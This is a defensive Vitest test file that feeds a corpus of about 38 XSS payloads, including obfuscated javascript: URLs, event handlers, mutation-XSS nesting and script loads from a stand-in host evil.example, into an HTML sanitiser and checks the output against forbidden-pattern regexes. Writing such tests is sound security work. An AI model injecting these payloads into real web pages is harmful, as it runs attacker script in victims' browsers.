// A corpus of XSS payloads: after sanitising, none may leave a script, handler, script URL, style or foreign frame.
import { describe, expect, it } from 'vitest';
import { sanitizePostHtml } from './post-html';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onmouseover="alert(1)">hover</p>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

const FORBIDDEN = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:text\/html/i,
  /style\s*=/i,
  /<style/i,
  /<iframe(?![^>]*src="https:\/\/www\.(youtube-nocookie|youtube)\.com\/embed\/)/i,
  /<(object|embed|form|input|meta|link|base|svg|math|body)\b/i,
  /srcdoc/i,
];

describe('sanitizePostHtml against XSS', () => {
  it(`has at least 30 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const clean = sanitizePostHtml(`<p>before</p>${payload}<p>after</p>`) ?? '';
    for (const pattern of FORBIDDEN) expect(clean, `${pattern} in ${clean}`).not.toMatch(pattern);
    expect(clean).toContain('<p>before</p>');
  });
});
